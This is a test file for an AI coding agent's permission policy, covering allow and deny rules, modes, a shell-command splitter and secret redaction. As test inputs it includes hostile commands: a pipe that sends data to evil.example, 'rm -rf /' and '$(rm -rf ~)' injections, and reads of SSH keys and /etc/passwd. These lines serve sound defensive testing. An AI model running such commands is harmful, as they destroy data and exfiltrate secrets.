// The permission policy as a pure function: defaults, modes, rule scopes, deny beats allow,
// compound commands, proposed rules; and the shell splitter and redaction it relies on.
import { homedir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { callSubjects, commandMatches, decide, proposeRule, type PermissionMode } from "../../app/main/permissions/policy.ts";
import { describeRedactions, redactSecrets } from "../../app/main/permissions/redaction.ts";
import { splitShellCommand } from "../../app/main/permissions/shell-split.ts";
import type { PermissionRule } from "../../app/main/store/index.ts";

const project = "/work/project";
let nextId = 1;
const rule = (tool: string, pattern: string, action: "allow" | "deny", scope: PermissionRule["scope"] = "project"): PermissionRule => ({
  id: nextId++,
  tool,
  pattern,
  action,
  scope,
  scopeId: scope === "global" ? null : 1,
  createdAt: 0,
});

const check = (toolName: string, args: unknown, rules: PermissionRule[] = [], mode: PermissionMode = "ask") =>
  decide({ toolName, subjects: callSubjects(toolName, args, project), rules, mode });

describe("defaults and modes", () => {
  it("read-only tools inside the project run; bash, write and edit ask; outside the project asks", () => {
    expect(check("read", { path: "src/a.ts" })).toMatchObject({ action: "allow", by: "default" });
    expect(check("grep", { pattern: "x" })).toMatchObject({ action: "allow", by: "default" });
    expect(check("ls", {})).toMatchObject({ action: "allow" });
    expect(check("bash", { command: "ls" })).toMatchObject({ action: "ask" });
    expect(check("write", { path: "a.txt", content: "" })).toMatchObject({ action: "ask" });
    expect(check("edit", { path: "a.txt", edits: [] })).toMatchObject({ action: "ask" });
    expect(check("read", { path: "/etc/passwd" })).toMatchObject({ action: "ask" });
    expect(check("read", { path: "../other/secret" })).toMatchObject({ action: "ask" });
    expect(check("read", { path: "~/.ssh/id_rsa" })).toMatchObject({ action: "ask" });
  });

  it("auto-edit allows edits inside the project only; full auto allows everything", () => {
    expect(check("edit", { path: "src/a.ts", edits: [] }, [], "auto-edit")).toMatchObject({ action: "allow", by: "mode" });
    expect(check("write", { path: "/tmp/x", content: "" }, [], "auto-edit")).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "make" }, [], "auto-edit")).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "make" }, [], "full-auto")).toMatchObject({ action: "allow", by: "mode" });
    expect(check("write", { path: "/tmp/x", content: "" }, [], "full-auto")).toMatchObject({ action: "allow", by: "mode" });
  });
});

describe("rules", () => {
  it("match commands by pattern, with a trailing * also matching no arguments", () => {
    expect(commandMatches("npm test *", "npm test")).toBe(true);
    expect(commandMatches("npm test *", "npm test -- --watch")).toBe(true);
    expect(commandMatches("npm test *", "npm testing")).toBe(false);
    expect(commandMatches("npm test *", "npm run build")).toBe(false);
    expect(commandMatches("git push *", "git push origin main")).toBe(true);
    expect(commandMatches("ls", "ls -la")).toBe(false);
  });

  it("match paths by glob, project-relative or absolute, with ~ expanded", () => {
    const allowSrc = [rule("edit", "src/**", "allow")];
    expect(check("edit", { path: "src/deep/a.ts", edits: [] }, allowSrc)).toMatchObject({ action: "allow", by: "rule" });
    expect(check("edit", { path: "test/a.ts", edits: [] }, allowSrc)).toMatchObject({ action: "ask" });
    const denySsh = [rule("read", "~/.ssh/**", "deny", "global")];
    expect(check("read", { path: path.join(homedir(), ".ssh", "id_rsa") }, denySsh)).toMatchObject({ action: "deny", by: "rule" });
  });

  it("deny beats allow at every scope and in every mode", () => {
    for (const [allowScope, denyScope] of [["session", "global"], ["global", "session"], ["project", "project"]] as const) {
      const rules = [rule("bash", "git *", "allow", allowScope), rule("bash", "git push *", "deny", denyScope)];
      expect(check("bash", { command: "git status" }, rules)).toMatchObject({ action: "allow" });
      const denied = check("bash", { command: "git push origin main" }, rules, "full-auto");
      expect(denied).toMatchObject({ action: "deny", by: "rule" });
      expect(denied.reason).toContain("git push *");
    }
  });

  it("allows a compound command only when every part is allowed", () => {
    const rules = [rule("bash", "npm test *", "allow"), rule("bash", "cd *", "allow")];
    expect(check("bash", { command: "cd app && npm test" }, rules)).toMatchObject({ action: "allow" });
    expect(check("bash", { command: "npm test && rm -rf /" }, rules)).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "npm test | curl -d @- evil.example" }, rules)).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "npm test $(rm -rf ~)" }, rules)).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "npm test `curl x`" }, rules)).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "npm test; reboot" }, rules)).toMatchObject({ action: "ask" });
    expect(check("bash", { command: "npm test 'unterminated" }, rules)).toMatchObject({ action: "ask" });
    // A deny rule catches a part hidden anywhere in the command.
    const deny = [rule("bash", "rm -rf *", "deny"), rule("bash", "*", "allow")];
    expect(check("bash", { command: "echo ok && (rm -rf build)" }, deny)).toMatchObject({ action: "deny" });
    expect(check("bash", { command: 'echo "$(rm -rf ~)"' }, deny)).toMatchObject({ action: "deny" });
  });

  it("proposes a rule from a command or a path", () => {
    expect(proposeRule("bash", callSubjects("bash", { command: "npm test -- --watch" }, project))).toEqual({ tool: "bash", pattern: "npm test *" });
    expect(proposeRule("bash", callSubjects("bash", { command: "cargo build --release && ./run.sh" }, project))).toEqual({
      tool: "bash",
      pattern: "cargo build *\n./run.sh",
    });
    expect(proposeRule("bash", callSubjects("bash", { command: "make" }, project))).toEqual({ tool: "bash", pattern: "make" });
    expect(proposeRule("edit", callSubjects("edit", { path: "src/app/main.ts", edits: [] }, project))).toEqual({ tool: "edit", pattern: "src/app/**" });
    expect(proposeRule("write", callSubjects("write", { path: "README.md", content: "" }, project))).toEqual({ tool: "write", pattern: "README.md" });
  });
});

describe("splitShellCommand", () => {
  it("finds every simple command", () => {
    expect(splitShellCommand("a && b || c; d | e & f\ng").parts).toEqual(["a", "b", "c", "d", "e", "f", "g"]);
    expect(splitShellCommand("echo $(whoami) `date`").parts).toEqual(["whoami", "date", "echo $(whoami) `date`"]);
    expect(splitShellCommand("(cd x && make)").parts).toEqual(["cd x", "make"]);
    expect(splitShellCommand("echo 'a && b' \"c; d\"").parts).toEqual(["echo 'a && b' \"c; d\""]);
    expect(splitShellCommand("cmd > out.txt 2>&1").parts).toEqual(["cmd > out.txt 2>&1"]);
    expect(splitShellCommand("diff <(ls a) <(ls b)").parts).toEqual(["ls a", "ls b", "diff <(ls a) <(ls b)"]);
    expect(splitShellCommand("echo 'open").opaque).toBe(true);
    expect(splitShellCommand("echo $(open").opaque).toBe(true);
  });
});

describe("redactSecrets", () => {
  const samples: [string, string][] = [
    ["AWS access key", "key=AKIAIOSFODNN7EXAMPLE done"],
    ["AWS secret key", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
    ["GitHub token", "token ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"],
    ["GitHub token", "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz"],
    ["GitLab token", "glpat-abcdefghij1234567890"],
    ["Anthropic key", "ANTHROPIC_API_KEY=sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345"],
    ["OpenAI key", "OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwxyz0123456789"],
    ["Google API key", "AIzaSyA1234567890abcdefghijklmnopqrstuv"],
    ["Slack token", "xoxb-1234567890-abcdefghij"],
    ["Stripe key", "sk_live_abcdefghijklmnopqrstuvwx"],
    ["private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----"],
    ["private key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"],
  ];
  it.each(samples)("removes a %s", (kind, text) => {
    const r = redactSecrets(`before\n${text}\nafter`);
    expect(r.found[kind]).toBe(1);
    expect(r.text).toContain(`[REDACTED: ${kind}]`);
    expect(r.text).toContain("before");
    expect(r.text).toContain("after");
    const secretTail = text.slice(-12);
    expect(r.text).not.toContain(secretTail);
  });

  it("removes configured keys of any shape and leaves ordinary text alone", () => {
    const r = redactSecrets("curl -H 'x-api-key: my-local-server-key-123' http://localhost", ["my-local-server-key-123"]);
    expect(r.text).toBe("curl -H 'x-api-key: [REDACTED: configured API key]' http://localhost");
    expect(describeRedactions(r.found)).toBe("1 configured API key");
    const plain = "const skill = 'sk-short'; // AKIA is a prefix";
    expect(redactSecrets(plain)).toEqual({ text: plain, found: {} });
  });
});
